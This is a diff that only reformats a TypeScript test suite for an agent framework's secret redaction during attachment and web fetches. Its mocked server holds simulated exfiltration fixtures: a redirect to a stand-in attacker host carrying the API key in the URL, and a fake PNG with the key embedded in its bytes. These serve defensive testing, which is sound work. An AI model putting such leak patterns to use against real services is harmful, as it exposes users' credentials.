@@ -28,8 +28,15 @@ function upstream() {
     const req = new Request(input, init);
     const url = new URL(req.url);
     if (url.hostname !== "api.example.com") return real(req);
-    if (url.pathname === "/away") return new Response(null, { status: 302, headers: { location: `https://evil.example.net/?k=${encodeURIComponent(req.headers.get("x-api-key") ?? "")}` } });
-    if (url.pathname === "/leak.png") return new Response(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, ...new TextEncoder().encode(req.headers.get("x-api-key") ?? ""), 0xfe]), { headers: { "content-type": "image/png" } });
+    if (url.pathname === "/away")
+      return new Response(null, {
+        status: 302,
+        headers: { location: `https://evil.example.net/?k=${encodeURIComponent(req.headers.get("x-api-key") ?? "")}` },
+      });
+    if (url.pathname === "/leak.png")
+      return new Response(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, ...new TextEncoder().encode(req.headers.get("x-api-key") ?? ""), 0xfe]), {
+        headers: { "content-type": "image/png" },
+      });
     return real(`${env.FAKE_UPSTREAM_A}${url.pathname}`, { headers: req.headers });
   });
 }
@@ -40,7 +47,10 @@ afterEach(() => vi.restoreAllMocks());
 async function attach(ref: string, vars: Record<string, string>, plainVars: string[] = []) {
   const fake = await fakeOpenAI(env.FAKE_OPENAI_URL, `att-secret-${crypto.randomUUID()}`, [{ text: "read it" }]);
   const caller = scriptedModel([{ toolCalls: [{ id: "c1", name: "reader", args: { input: "what is this?", attachments: [ref] } }] }, { text: "done" }]);
-  const h = harness({ "desk.worker": desk, "reader.worker": reader }, { models: { "test:caller": caller }, openai: { baseURL: fake.baseURL, apiKey: "sk-test" } });
+  const h = harness(
+    { "desk.worker": desk, "reader.worker": reader },
+    { models: { "test:caller": caller }, openai: { baseURL: fake.baseURL, apiKey: "sk-test" } },
+  );
   h.config.vars = vars;
   h.config.plainVars = plainVars;
   const store = new MemoryJournalStore();
@@ -63,7 +73,11 @@ describe("an attachment fetched through an http instance", () => {
     const shown = await attach(`https://api.example.com/att-${crypto.randomUUID()}/echo`, { API_KEY: SECRET, API_REGION: "eu-west-region" }, ["API_REGION"]);
     expect(shown.sent).toContain("eu-west-region");
     expect(shown.sent).not.toContain("[redacted:API_REGION]");
-    const same = await attach(`https://api.example.com/att-${crypto.randomUUID()}/echo`, { API_KEY: SECRET, API_REGION: "eu-west-region", OTHER_SECRET: "eu-west-region" }, ["API_REGION"]);
+    const same = await attach(
+      `https://api.example.com/att-${crypto.randomUUID()}/echo`,
+      { API_KEY: SECRET, API_REGION: "eu-west-region", OTHER_SECRET: "eu-west-region" },
+      ["API_REGION"],
+    );
     expect(same.sent).not.toContain("eu-west-region");
     expect(same.sent).toContain("[redacted:API_REGION]");
   });
@@ -81,25 +95,35 @@ describe("an attachment fetched through an http instance", () => {
 
   it("that fails on a redirect quoting the secret names the redirect without it", async () => {
     const { store, sent } = await attach("https://api.example.com/away", { API_KEY: SECRET, API_REGION: "eu-west-region" });
-    expect(store.entries.get("desk/turn:1/tool:1/result")).toMatchObject({ ok: false, error: expect.stringContaining("https://evil.example.net/?k=[redacted:API_KEY]") });
+    expect(store.entries.get("desk/turn:1/tool:1/result")).toMatchObject({
+      ok: false,
+      error: expect.stringContaining("https://evil.example.net/?k=[redacted:API_KEY]"),
+    });
     expect(JSON.stringify([...store.entries])).not.toContain("zq-live");
     expect(sent).toBe("[]");
   });
 
   it("is read again on a replay whose model request is not recorded: redacted the same way, though the raw body is longer than the recorded one", async () => {
     // The callee writes a file (an approval) first, so its second request comes after a pause and reads the attachment again.
-    const asking = workerFile(`name: reader\nmodel: test:asker\nattachments: { max_files: 2, max_bytes: 100000, types: ["application/json"] }\ntoolsets:\n  files: { use: files }`, "Read.");
+    const asking = workerFile(
+      `name: reader\nmodel: test:asker\nattachments: { max_files: 2, max_bytes: 100000, types: ["application/json"] }\ntoolsets:\n  files: { use: files }`,
+      "Read.",
+    );
     const reads: ResolvedPart[][] = [];
     const asker: Model = {
       async request(req) {
         const user = req.messages.find((m) => m.role === "user")!;
         reads.push(typeof user.content === "string" ? [] : await resolveParts(user.content));
         const wrote = req.messages.some((m) => m.role === "tool");
-        return wrote ? { text: "ok", toolCalls: [], usage: { inputTokens: 1, outputTokens: 1 } } : { text: null, toolCalls: [{ id: "w", name: "write_file", arguments: '{"path":"x","content":"y"}' }], usage: { inputTokens: 1, outputTokens: 1 } };
+        return wrote
+          ? { text: "ok", toolCalls: [], usage: { inputTokens: 1, outputTokens: 1 } }
+          : { text: null, toolCalls: [{ id: "w", name: "write_file", arguments: '{"path":"x","content":"y"}' }], usage: { inputTokens: 1, outputTokens: 1 } };
       },
     };
     const ref = `https://api.example.com/att-${crypto.randomUUID()}/echo`;
-    const caller = scriptedModel((_req, n) => (n === 0 ? { toolCalls: [{ id: "c1", name: "reader", args: { input: "x", attachments: [ref] } }] } : { text: "done" }));
+    const caller = scriptedModel((_req, n) =>
+      n === 0 ? { toolCalls: [{ id: "c1", name: "reader", args: { input: "x", attachments: [ref] } }] } : { text: "done" },
+    );
     const h = harness({ "desk.worker": desk, "reader.worker": asking }, { models: { "test:caller": caller, "test:asker": asker } });
     h.config.vars = { API_KEY: SECRET, API_REGION: "eu-west-region" };
     h.config.plainVars = ["API_REGION"];
@@ -125,8 +149,20 @@ toolsets:
     const seen: string[] = [];
     const model = scriptedModel((req, n) => {
       seen.push(JSON.stringify(req.messages.filter((m) => m.role === "tool")));
-      if (n === 0) return { toolCalls: [{ name: "web_fetch", args: { url: echo, save_to: "echo.json" } }, { name: "web_fetch", args: { url: "https://api.example.com/leak.png", save_to: "leak.png" } }] };
-      if (n === 1) return { toolCalls: [{ name: "read_file", args: { path: "echo.json" } }, { name: "read_file", args: { path: "leak.png" } }] };
+      if (n === 0)
+        return {
+          toolCalls: [
+            { name: "web_fetch", args: { url: echo, save_to: "echo.json" } },
+            { name: "web_fetch", args: { url: "https://api.example.com/leak.png", save_to: "leak.png" } },
+          ],
+        };
+      if (n === 1)
+        return {
+          toolCalls: [
+            { name: "read_file", args: { path: "echo.json" } },
+            { name: "read_file", args: { path: "leak.png" } },
+          ],
+        };
       return { text: "done" };
     });
     const h = harness({ "saver.worker": saver }, { models: { "test:saver": model } });
